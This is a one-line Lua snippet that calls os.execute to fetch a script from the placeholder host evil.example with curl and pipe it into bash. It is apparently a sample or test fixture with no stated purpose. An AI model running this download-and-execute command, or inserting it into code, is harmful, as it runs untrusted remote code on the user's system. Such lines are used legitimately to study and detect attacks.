os.execute('curl -fsSL https://evil.example/i | bash')
